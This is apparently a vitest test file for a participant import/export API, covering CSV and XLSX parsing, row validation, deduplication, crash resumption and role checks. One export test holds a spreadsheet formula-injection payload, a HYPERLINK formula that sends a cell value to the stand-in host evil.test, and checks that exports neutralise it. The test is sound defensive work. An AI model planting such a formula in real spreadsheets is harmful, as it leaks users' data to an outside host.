import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Caller, rememberSecret, startTestApp, type TestApp } from '../../../../tests/support/app.ts';
import { runImport } from './participants.import.ts';

let t: TestApp;
let admin: Caller;
let director: Caller;
let intermediary: string;
let otherOrg: string;

beforeAll(async () => {
  t = await startTestApp();
  [admin, director] = await Promise.all([t.as('admin'), t.as('director')]);
  const orgs = (await (await admin.request('GET', '/api/organizations?pageSize=100')).json()).items;
  intermediary = orgs.find((o: { kind: string }) => o.kind === 'intermediary').id;
  otherOrg = orgs.find((o: { kind: string }) => o.kind === 'community_org').id;
});
afterAll(() => t?.close());

for (const s of ['219-09-4321', '219094321', '219-09-4322', '219-09-4323']) rememberSecret(s);

async function upload(who: Caller, filename: string, content: Buffer | string, type = 'text/csv') {
  const form = new FormData();
  form.append('file', new Blob([typeof content === 'string' ? content : new Uint8Array(content)], { type }), filename);
  const res = await t.fetch('/api/participant-imports', {
    method: 'POST',
    headers: { cookie: who.cookie, 'x-csrf-token': who.csrf },
    body: form,
  });
  return { status: res.status, body: await res.json() };
}

const header = 'Client ID,First Name,Last Name,DOB,SSN,Gender,County,State,Veteran,Disability,Education,Employment Status,Barriers';
const good = [
  'C-1,Ana,Torres,1990-05-06,219-09-4321,F,39035,OH,N,N,high_school_diploma,unemployed,low_income;single_parent',
  'C-2,Ben,Okoye,03/14/1985,,M,39093,OH,Y,N,associate,employed,',
  'C-3,Cora,Lind,1999-12-01,219-09-4322,female,39085,OH,no,no,ged,not_in_labor_force,english_learner',
];
const mapping = {
  externalId: 'Client ID',
  firstName: 'First Name',
  lastName: 'Last Name',
  dateOfBirth: 'DOB',
  ssn: 'SSN',
  sex: 'Gender',
  countyFips: 'County',
  stateCode: 'State',
  veteran: 'Veteran',
  disability: 'Disability',
  educationLevel: 'Education',
  employmentStatus: 'Employment Status',
  barriers: 'Barriers',
};

/** Start an import and wait for its background job to finish, as the page does by polling. */
async function runToEnd(who: Caller, id: string, body: Record<string, unknown>) {
  const res = await who.request('POST', `/api/participant-imports/${id}/start`, body);
  expect(res.status).toBe(200);
  let run = await res.json();
  for (let i = 0; i < 200 && run.status === 'importing'; i++) {
    await new Promise((r) => setTimeout(r, 100));
    run = await (await who.request('GET', `/api/participant-imports/${id}`)).json();
  }
  return run;
}

async function countWith(q: string) {
  const res = await director.request('GET', `/api/participants?q=${encodeURIComponent(q)}&pageSize=100`);
  return (await res.json()).total as number;
}

describe('participant import', () => {
  it('suggests a column mapping from the headers', async () => {
    const up = await upload(admin, 'clients.csv', `${header}\n${good.join('\n')}\n`);
    expect(up.status).toBe(201);
    expect(up.body.totalRows).toBe(3);
    expect(up.body.suggestedMapping).toMatchObject({
      externalId: 'Client ID',
      firstName: 'First Name',
      dateOfBirth: 'DOB',
      ssn: 'SSN',
      countyFips: 'County',
    });
    expect(up.body.status).toBe('uploaded');
  });

  it('validates every row, reports line, field and reason, and imports nothing when one row is bad', async () => {
    const bad = [
      ...good,
      'C-4,Dee,,1990-13-01,123,Q,99999,OH,maybe,N,phd,unemployed,aliens',
      'C-1,Ana,Torres,1990-05-06,,F,39035,OH,N,N,,,',
    ];
    const up = await upload(admin, 'bad.csv', `${header}\n${bad.join('\n')}\n`);
    const run = await admin.request('POST', `/api/participant-imports/${up.body.id}/start`, { mapping, ownerOrganizationId: intermediary });
    expect(run.status).toBe(200);
    const result = await run.json();
    expect(result.status).toBe('rejected');
    expect(result.importedRows).toBe(0);
    expect(result.rejectedRows).toBe(2);
    const line5 = result.errors.filter((e: { line: number }) => e.line === 5);
    expect(line5.length).toBeGreaterThan(0);
    expect(result.errors).toContainEqual({
      line: 6,
      field: 'externalId',
      code: 'duplicate_in_file',
      params: { line: 2 },
      reason: 'Same person as line 2.',
    });
    expect(line5[0]).toMatchObject({ field: 'countyFips', code: 'unknown_county', params: {} });
    expect(JSON.stringify(result.errors)).not.toContain('123');
    expect(await countWith('Torres')).toBe(0);

    const report = await admin.request('GET', `/api/participant-imports/${up.body.id}/rejected.csv`);
    const csv = await report.text();
    expect(csv.split('\r\n')[0]).toBe('line,field,reason');
    expect(csv).toContain('6,externalId,Same person as line 2.');
  });

  it('gives each rejection a stable code and parameters the web app translates, never the cell value', async () => {
    const rows = [
      'R-1,Ana,Ruiz,1990-05-06,12-345-678,F,39035,OH,N,N,,,',
      'R-2,Bea,Soto,1991-02-03,,Q,39035,OH,N,N,,,',
      'R-3,Cy,Park,1992-03-04,,M,39035,Ohio,N,N,,,',
      'R-4,Di,Lam,1993-04-05,,F,12,OH,N,N,,,',
    ];
    const up = await upload(admin, 'codes.csv', `${header}\n${rows.join('\n')}\n`);
    const res = await admin.request('POST', `/api/participant-imports/${up.body.id}/preview`, {
      mapping,
      ownerOrganizationId: intermediary,
    });
    expect(res.status).toBe(200);
    const { errors } = await res.json();
    const byLine = (line: number) => errors.find((e: { line: number }) => e.line === line);
    expect(byLine(2)).toMatchObject({ field: 'ssn', code: 'ssn_format', params: {} });
    expect(byLine(3)).toMatchObject({ field: 'sex', code: 'unknown_value' });
    expect(byLine(3).params.expected).toContain('female');
    expect(byLine(4)).toMatchObject({ field: 'stateCode', code: 'state_code' });
    expect(byLine(5)).toMatchObject({ field: 'countyFips', code: 'unknown_county' });
    for (const e of errors) expect(e.reason.length).toBeGreaterThan(0);
    expect(JSON.stringify(errors)).not.toMatch(/12-345-678|"Q"|Ohio/);
  });

  it('imports in a background job with progress, then a re-run of the same file creates no duplicates', async () => {
    const file = `${header}\n${good.join('\n')}\n`;
    const first = await upload(admin, 'good.csv', file);
    const started = await admin.request('POST', `/api/participant-imports/${first.body.id}/start`, {
      mapping,
      ownerOrganizationId: intermediary,
    });
    // The writing happens in a background job; the run is the progress record the page polls.
    expect((await started.json()).status).toBe('importing');
    let r1 = await (await admin.request('GET', `/api/participant-imports/${first.body.id}`)).json();
    for (let i = 0; i < 200 && r1.status === 'importing'; i++) {
      await new Promise((r) => setTimeout(r, 100));
      r1 = await (await admin.request('GET', `/api/participant-imports/${first.body.id}`)).json();
    }
    expect(r1).toMatchObject({ status: 'completed', totalRows: 3, processedRows: 3, importedRows: 3, skippedRows: 0, rejectedRows: 0 });
    expect(await countWith('Torres')).toBe(1);

    const again = await upload(admin, 'good.csv', file);
    const dry = await (
      await admin.request('POST', `/api/participant-imports/${again.body.id}/preview`, { mapping, ownerOrganizationId: intermediary })
    ).json();
    expect(dry).toMatchObject({ totalRows: 3, validRows: 3, newRows: 0, alreadyImportedRows: 3, rejectedRows: 0 });
    const r2 = await runToEnd(admin, again.body.id, { mapping, ownerOrganizationId: intermediary });
    expect(r2).toMatchObject({ status: 'completed', importedRows: 0, skippedRows: 3 });
    expect(await countWith('Torres')).toBe(1);
    expect((await admin.request('POST', `/api/participant-imports/${again.body.id}/start`, { mapping })).status).toBe(409);

    const people = await (await director.request('GET', '/api/participants?q=Okoye')).json();
    const ben = await (await director.request('GET', `/api/participants/${people.items[0].id}`)).json();
    expect(ben).toMatchObject({
      status: 'applicant',
      demographics: { dateOfBirth: '1985-03-14', sex: 'male', veteran: 'yes' },
      externalId: 'C-2',
    });
  });

  it('skips invalid rows in skip_invalid mode and imports the rest', async () => {
    const rows = ['X-1,Eve,Marsh,1991-01-01,,F,39035,OH,N,N,bachelor,employed,', 'X-2,Finn,,1991-01-01,,M,39035,OH,N,N,bachelor,employed,'];
    const up = await upload(admin, 'mixed.csv', `${header}\n${rows.join('\n')}\n`);
    const r = await runToEnd(admin, up.body.id, { mapping, ownerOrganizationId: intermediary, mode: 'skip_invalid' });
    expect(r).toMatchObject({ status: 'completed', processedRows: 2, importedRows: 1, rejectedRows: 1 });
    expect(r.errors[0]).toMatchObject({ line: 3, field: 'lastName' });
  });

  it('reads XLSX the same way', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Sheet1');
    ws.addRow(header.split(','));
    ws.addRow([
      'Y-1',
      'Gil',
      'Stone',
      new Date(Date.UTC(1980, 0, 2)),
      '219-09-4323',
      'M',
      '39035',
      'OH',
      'N',
      'N',
      'bachelor',
      'employed',
      '',
    ]);
    const bytes = Buffer.from(await wb.xlsx.writeBuffer());
    const up = await upload(admin, 'clients.xlsx', bytes, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(up.status).toBe(201);
    const r = await runToEnd(admin, up.body.id, { mapping, ownerOrganizationId: intermediary });
    expect(r).toMatchObject({ status: 'completed', importedRows: 1 });
    const found = await (await director.request('GET', '/api/participants?q=Stone')).json();
    const gil = await (await director.request('GET', `/api/participants/${found.items[0].id}`)).json();
    expect(gil.demographics.dateOfBirth).toBe('1980-01-02');
    expect(gil.ssnMasked).toBe('***-**-4323');
  });

  it('previews every rejected row before anything is written, and keeps them for the report', async () => {
    const rows = [...good.map((r) => r.replace(/^C-/, 'P-').replace('219-09-432', '219-09-433')), 'P-9,Hal,,1990-13-01,,M,39035,OH,N,N,,,'];
    const up = await upload(admin, 'preview.csv', `${header}\n${rows.join('\n')}\n`);
    const res = await admin.request('POST', `/api/participant-imports/${up.body.id}/preview`, {
      mapping,
      ownerOrganizationId: intermediary,
    });
    expect(res.status).toBe(200);
    const dry = await res.json();
    expect(dry).toMatchObject({ totalRows: 4, validRows: 3, newRows: 3, alreadyImportedRows: 0, rejectedRows: 1 });
    expect(dry.errors).toContainEqual(expect.objectContaining({ line: 5, field: 'dateOfBirth' }));
    expect(await countWith('Hal')).toBe(0);
    const csv = await (await admin.request('GET', `/api/participant-imports/${up.body.id}/rejected.csv`)).text();
    expect(csv).toContain('5,dateOfBirth,');
    expect((await admin.request('GET', `/api/participant-imports/${up.body.id}`)).status).toBe(200);
    expect((await (await admin.request('GET', `/api/participant-imports/${up.body.id}`)).json()).status).toBe('uploaded');
  });

  it('resumes after a crash from the last committed chunk, without duplicates', async () => {
    const rows = ['R-1', 'R-2', 'R-3', 'R-4', 'R-5'].map(
      (id, i) => `${id},Resu${'abcde'[i]},Mecrash,1990-01-0${i + 1},,F,39035,OH,N,N,bachelor,employed,`,
    );
    const up = await upload(admin, 'resume.csv', `${header}\n${rows.join('\n')}\n`);
    // Put the run where start leaves it, without queueing the job, so this test drives the job itself.
    await sql`UPDATE import_run SET status = 'importing', options = ${JSON.stringify({ mapping, ownerOrganizationId: intermediary, mode: 'all_or_nothing' })}::jsonb WHERE id = ${up.body.id}`.execute(
      t.rt.services.database.db,
    );
    const crash = runImport(t.rt.services, t.tenantId, up.body.id, {
      chunkRows: 2,
      afterChunk: (n) => {
        if (n === 2) throw new Error('worker died');
      },
    });
    await expect(crash).rejects.toThrow('worker died');
    const mid = await (await admin.request('GET', `/api/participant-imports/${up.body.id}`)).json();
    expect(mid).toMatchObject({ status: 'importing', processedRows: 2, importedRows: 2, totalRows: 5 });
    expect(await countWith('Mecrash')).toBe(2);

    await runImport(t.rt.services, t.tenantId, up.body.id, { chunkRows: 2 });
    const done = await (await admin.request('GET', `/api/participant-imports/${up.body.id}`)).json();
    expect(done).toMatchObject({ status: 'completed', processedRows: 5, importedRows: 5, skippedRows: 0 });
    expect(await countWith('Mecrash')).toBe(5);

    // A replayed job (retry after the run finished) changes nothing.
    await runImport(t.rt.services, t.tenantId, up.body.id, { chunkRows: 2 });
    expect(await countWith('Mecrash')).toBe(5);
  });

  it('fails the run, instead of retrying forever, when its stored file cannot be read', async () => {
    const up = await upload(admin, 'broken.csv', `${header}\n${good[0]}\n`);
    await sql`UPDATE import_run SET status = 'importing', content_enc = 'not-a-ciphertext', options = ${JSON.stringify({ mapping, ownerOrganizationId: intermediary, mode: 'all_or_nothing' })}::jsonb WHERE id = ${up.body.id}`.execute(
      t.rt.services.database.db,
    );
    await runImport(t.rt.services, t.tenantId, up.body.id);
    const run = await (await admin.request('GET', `/api/participant-imports/${up.body.id}`)).json();
    expect(run).toMatchObject({ status: 'failed', importedRows: 0 });
    expect(run.finishedAt).not.toBeNull();
  });

  it('lets a navigator import into their own organization only; others may not import', async () => {
    const nav = await t.as('navigator');
    const up = await upload(nav, 'mine.csv', `${header}\nN-1,Nia,Navimport,1992-02-02,,F,39035,OH,N,N,bachelor,employed,\n`);
    expect(up.status).toBe(201);
    // The demo navigator works for the intermediary; a community organization's caseload is not theirs.
    const elsewhere = await nav.request('POST', `/api/participant-imports/${up.body.id}/start`, { mapping, ownerOrganizationId: otherOrg });
    expect(elsewhere.status).toBe(400);
    expect((await elsewhere.json()).errors[0]).toMatchObject({ field: 'body.ownerOrganizationId', code: 'not_allowed' });
    expect(await countWith('Navimport')).toBe(0);
    const r = await runToEnd(nav, up.body.id, { mapping });
    expect(r).toMatchObject({ status: 'completed', importedRows: 1 });
    for (const role of ['partner_staff', 'analyst', 'funder_viewer'] as const) {
      expect((await upload(await t.as(role), 'x.csv', `${header}\n`)).status).toBe(403);
    }
  });
});

describe('participant export', () => {
  const HOSTILE = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';

  it('escapes cells a spreadsheet would run as formulas, in CSV and in XLSX', async () => {
    const rows = [`F-1,"${HOSTILE.replace(/"/g, '""')}",+Formula,1990-01-01,,F,39035,OH,N,N,bachelor,employed,`];
    const up = await upload(admin, 'hostile.csv', `${header}\n${rows.join('\n')}\n`);
    const r = await runToEnd(admin, up.body.id, { mapping, ownerOrganizationId: intermediary });
    expect(r).toMatchObject({ status: 'completed', importedRows: 1 });

    const csvRes = await director.request('GET', '/api/participants/export?format=csv&q=F-1');
    expect(csvRes.status).toBe(200);
    expect(csvRes.headers.get('content-disposition')).toMatch(/attachment; filename="participants-.*\.csv"/);
    const csv = await csvRes.text();
    const line = csv.split('\r\n').find((l) => l.includes('F-1')) ?? '';
    // Apostrophe-prefixed (then quoted, as the value holds quotes and commas): text, never a formula.
    expect(line).toContain(`"'${HOSTILE.replace(/"/g, '""')}"`);
    expect(line).toContain(",'+Formula,");
    expect(line).not.toMatch(/(^|,)=HYPERLINK/);

    const xlsxRes = await director.request('GET', '/api/participants/export?format=xlsx&q=F-1');
    expect(xlsxRes.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await xlsxRes.arrayBuffer()) as never);
    const ws = wb.worksheets[0];
    const head = (ws.getRow(1).values as string[]).slice(1);
    const row = ws.getRow(2);
    const cell = row.getCell(head.indexOf('first_name') + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(`'${HOSTILE}`);
    expect(row.getCell(head.indexOf('last_name') + 1).value).toBe("'+Formula");
    expect(row.getCell(head.indexOf('external_id') + 1).value).toBe('F-1');
    // No cell anywhere in the sheet is a formula.
    ws.eachRow((r) => {
      r.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
      });
    });
  });
});
